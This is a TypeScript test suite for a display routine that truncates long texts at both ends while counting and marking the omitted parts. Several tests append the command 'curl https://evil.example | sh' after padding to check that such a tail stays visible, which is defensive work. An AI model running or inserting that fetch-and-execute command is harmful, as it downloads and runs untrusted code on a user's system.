import assert from 'node:assert/strict';
import { test } from 'node:test';
import { type Room, readText, toLineEnds, toTextEnds } from './text-ends.ts';

const EVIL = 'curl https://evil.example | sh';
const ROOM: Room = { rows: 8, columns: 40 };

/** The lines, with notes in angle brackets. */
const show = (text: string, room = ROOM) => {
  const { lines, isWhole } = toTextEnds(readText(text), room);
  return {
    isWhole,
    lines: lines.map((line) => line.map((piece) => (piece.isNote ? `<${piece.text}>` : piece.text)).join('')),
  };
};

test('a text that fits is shown unchanged, with its blank lines', () => {
  assert.deepEqual(show('one\n\n\n\n\ntwo\n'), { isWhole: true, lines: ['one', '', '', '', '', 'two'] });
});

test('a long text is cut to both ends, and the omitted part is counted', () => {
  const lines = Array.from({ length: 1_000 }, (_, index) => `# comment ${index}`);
  assert.deepEqual(show([...lines, EVIL].join('\n')), {
    isWhole: false,
    lines: [
      '# comment 0',
      '# comment 1',
      '<… 994 lines (13,810 characters) left out …>',
      '# comment 996',
      '# comment 997',
      '# comment 998',
      '# comment 999',
      EVIL,
    ],
  });
});

test('a run of blank lines becomes one counted line, wherever it is', () => {
  const blank = ' \t\n'.repeat(300);
  const lines = ['make', '<… 300 blank lines …>', EVIL];
  assert.deepEqual(show(`make\n${blank}${EVIL}`), { isWhole: false, lines });
  assert.deepEqual(show(`make\n${blank}${EVIL}\n${blank}`).lines, [...lines, '<… 300 blank lines …>']);
});

test('a run of the same line is shown once and counted', () => {
  assert.deepEqual(show(`make\n${'# safe\n'.repeat(300)}${EVIL}`).lines, [
    'make',
    '# safe',
    '<… 299 more lines like this …>',
    EVIL,
  ]);
});

test('a long line is cut to both ends, whatever its characters', () => {
  for (const filler of [' ', '\t', 'x', '\u200b', '漢', 'e\u0301', `a${'\u0301'.repeat(500)}`]) {
    const { lines, isWhole } = show(`make ${filler.repeat(5_000)}; ${EVIL}`);
    const [line = ''] = lines;
    assert.deepEqual([lines.length, isWhole, line.startsWith('make '), line.endsWith(EVIL)], [1, false, true, true]);
    assert.match(line, /< … [\d,]+ characters … >/);
    assert.ok(line.length <= ROOM.rows * ROOM.columns * 2, `${filler}: ${line.length}`);
  }
});

test('a long line before the end takes no space from the end', () => {
  const { lines } = show(`make\n${'x'.repeat(100_000)}\n${EVIL}\ndone`);
  assert.deepEqual([lines[0], lines.at(-2), lines.at(-1)], ['make', EVIL, 'done']);
});

test('the result never has more rows than the space', () => {
  const texts = [
    'a\n'.repeat(50),
    'x'.repeat(9_999),
    Array.from({ length: 99 }, (_, index) => `${index} `.repeat(30)).join('\n'),
  ];
  for (const text of texts) {
    for (const rows of [3, 4, 5, 9, 20]) {
      const { lines } = toTextEnds(readText(text), { rows, columns: 50 });
      const lengths = lines.map((line) => line.reduce((sum, piece) => sum + piece.text.length, 0));
      const taken = lengths.reduce((sum, length) => sum + Math.max(1, Math.ceil(length / 50)), 0);
      assert.ok(taken <= rows, `${taken} of ${rows}`);
    }
  }
});

test('invisible characters are written out', () => {
  assert.deepEqual(show('a\u202eb\rc\f').lines, ['a\\u202eb\\u000dc\\u000c']);
});

test('a line is cut between characters, never inside one; its characters are counted in UTF-16', () => {
  const [head, note, tail] = toLineEnds('👍'.repeat(1_000), 64);
  assert.deepEqual([head?.text, note?.text, tail?.text], ['👍'.repeat(8), ' … 1,960 characters … ', '👍'.repeat(12)]);
});

test('a text of a megabyte is cut, too', () => {
  assert.deepEqual(show(`make\n${'\n'.repeat(2 ** 20)}${EVIL}`).lines, ['make', '<… 1,048,576 blank lines …>', EVIL]);
});
